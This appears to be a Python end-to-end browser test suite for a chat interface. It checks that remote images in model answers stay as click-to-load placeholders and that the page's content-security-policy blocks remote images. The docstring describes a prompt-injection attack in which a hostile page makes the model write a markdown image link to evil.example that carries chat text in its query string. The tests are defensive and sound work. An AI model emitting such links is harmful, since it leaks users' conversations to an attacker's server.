"""Remote images in model answers: no request leaves the browser until the user asks for the image.

A prompt-injected page can make the model write ``![x](https://evil.example/p.png?d=<chat text>)``;
rendering it as an <img> would send the chat text to that host. Real Chromium, real server.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.agents.conftest import PageServer
from tests.e2e.harness import UI, screenshot
from tests.fakes.providers import FakeOpenAI, Reply

pytestmark = pytest.mark.e2e

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@pytest.fixture
def image_host() -> Iterator[PageServer]:
    """Another origin serving one image and recording every request it gets."""
    host = PageServer()
    yield host
    host.close()


def test_an_external_image_is_not_requested_until_clicked(
    ui: UI, fake: FakeOpenAI, image_host: PageServer
) -> None:
    url = image_host.add("/p.png?d=my%20secret%20plans", PIXEL, ctype="image/png")
    host = urlsplit(url).netloc
    fake.script(Reply(text=f"Here is the chart:\n\n![sales chart]({url})\n\nAnything else?"))
    ui.open().send("Show me the chart")

    expect(ui.assistant()).to_have_attribute("data-status", "success")
    placeholder = ui.answer().locator("a.remote-image")
    expect(placeholder).to_contain_text("sales chart")
    expect(placeholder).to_contain_text(host)
    expect(ui.answer().locator("img")).to_have_count(0)
    ui.page.wait_for_load_state("networkidle")
    screenshot(ui.page, "remote-image-placeholder")
    assert image_host.received == []

    # A reload renders the stored answer the same way.
    ui.page.reload()
    expect(ui.answer().locator("a.remote-image")).to_be_visible()
    ui.page.wait_for_load_state("networkidle")
    assert image_host.received == []

    with ui.page.context.expect_page() as opened:
        ui.answer().locator("a.remote-image").click()
    tab = opened.value
    tab.wait_for_load_state()
    assert image_host.received[0] == ("/p.png?d=my%20secret%20plans", host)  # (then the tab's favicon)
    tab.close()


def test_the_page_forbids_remote_images_by_default(ui: UI) -> None:
    response = ui.page.goto("/")
    policy = response.headers["content-security-policy"]
    assert "img-src 'self' data:;" in policy + ";" and "https:" not in policy
